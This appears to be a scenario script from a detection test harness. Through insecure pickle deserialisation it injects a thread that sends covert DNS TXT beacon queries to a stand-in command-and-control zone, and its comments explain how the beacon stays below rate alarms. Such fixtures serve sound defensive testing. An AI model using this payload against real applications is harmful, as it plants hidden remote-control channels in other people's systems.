# Insecure deserialisation in the app (see app-deserialize-exfil), the code leaving a beacon behind: a thread of the
# app's own process asks DNS, every two seconds, for the TXT record of a name in its operator's zone — where a C2
# server hands out commands (T1071.004) — built by hand and sent to the nameserver of /etc/resolv.conf, as DNS
# libraries do. Nothing is encoded in the name and there are three questions, far below any rate alarm: no shell,
# no program, no connection, no file — only the app asking a zone it never asked about for a record type it never
# asked for.
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "import threading
def beacon():
    import socket, struct, time
    server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
    for i in range(3):
        q = struct.pack('>HHHHHH', 0x4b53 + i, 0x0100, 1, 0, 0, 0)
        for label in ('updates', 'cdn-sync', 'example', 'org'):
            q += bytes([len(label)]) + label.encode()
        q += bytes(1) + struct.pack('>HH', 16, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        try:
            s.sendto(q, (server, 53))
            s.recv(512)
        except OSError:
            pass
        s.close()
        time.sleep(2)
threading.Thread(target=beacon, daemon=True).start()"
  sleep 8
}
